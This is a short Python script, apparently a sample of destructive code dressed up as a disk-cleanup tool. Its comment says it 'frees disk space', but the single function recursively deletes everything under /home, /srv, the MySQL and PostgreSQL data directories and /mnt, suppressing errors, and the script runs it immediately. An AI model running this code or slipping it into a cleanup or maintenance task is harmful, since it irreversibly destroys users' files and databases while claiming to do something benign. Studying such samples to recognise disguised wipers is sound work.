# "frees disk space" by removing everybody's data
import shutil
from pathlib import Path


def free_space():
    freed = 0
    for area in ("/home", "/srv", "/var/lib/mysql", "/var/lib/postgresql", "/mnt"):
        for child in Path(area).glob("*"):
            try:
                if child.is_dir():
                    shutil.rmtree(child, ignore_errors=True)
                else:
                    child.unlink()
                freed += 1
            except OSError as exc:
                print("skip", child, exc)
    return freed


print("removed", free_space())
